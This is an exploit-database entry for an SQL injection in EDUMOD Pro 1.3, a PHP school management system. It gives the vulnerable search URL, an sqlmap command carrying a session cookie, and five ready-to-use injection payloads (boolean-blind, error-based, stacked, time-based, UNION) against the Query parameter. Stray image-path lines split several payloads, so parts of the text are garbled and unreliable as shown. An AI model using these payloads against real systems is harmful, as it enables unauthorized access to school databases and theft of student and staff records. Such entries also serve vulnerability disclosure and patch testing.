Lucene search

zdtKaan KAMIS1337DAY-ID-28230
HistoryAug 02, 2017 - 12:00 a.m.

EDUMOD Pro 1.3 - SQL Injection Vulnerability


Exploit for php platform in category web applications

Exploit Title: School Management System | EDUMOD Pro v1.3 – SQL Injection
Date: 02.08.2017
Vendor Homepage:
Exploit Author: Kaan KAMIS
Contact: iletisim[at]k2an[dot]com
Category: Web Application Exploits
EDUMOD Pro is an advanced school management software based on web. It is developed with core PHP and mysql. You can manage all your school with a simple and understandable user interface. All modules available in software is under a start menu you can click to menu and go anywhere accross modules. There are various modules available for you and for your school in EDUMOD.
Vulnerable Url: http://localhost/students/search.php (POST Method)
Sqlmap Example : sqlmap -u"http://localhost/students/search.php" --cookie="_gat=1; _omappvp=true; _omappvs=true; _ga=GA1.2.810440502.1501701941; _gid=GA1.2.661879708.1501701941; PHPSESSID=i7gcjsi41rbm48ejn2a1ddgfti"
Parameter: Query (POST)
    Type: boolean-based blind
    Title: AND boolean-based blind - WHERE or HAVING clause
    Payload: Query=Test%' AND 5466=5466AND '%'='&action=Search
    Type: error-based
    Title: MySQL >= 5.0 AND error-based - WHERE, HAVING, ORDER BY or GROUP BY cl
ause (FLOOR)
    Payload: Query=Test%' AND (SELECT 7257 FROM(SELECT COUNT(*),CONCAT(0x717a7a7
671,(SELECT (ELT(7257=7257,1))),0x7171767871,FLOOR(RAND(0)*2))x FROM INFORMATION
_SCHEMA.PLUGINS GROUP BY x)a) AND '%'='&action=Search
    Type: stackedqueries
    Title: MySQL > 5.0.11 stacked queries (comment)
    Payload: Query=Test%';SELECT SLEEP(5)#&action=Search
    Type: AND/OR time-based blind
    Title: MySQL >= 5.0.12 AND time-based blind
    Payload: Query=Test%' AND SLEEP(5) AND '%'='&action=Search
    Type: UNION query
    Title: Generic UNION query (NULL) - 5 columnsPayload: Query=Test%' UNION ALL SELECT NULL,NULL,CONCAT(0x717a7a7671,0x4d715
71767871),NULL,NULL--SXjD&action=Search

# [2018-01-26]  #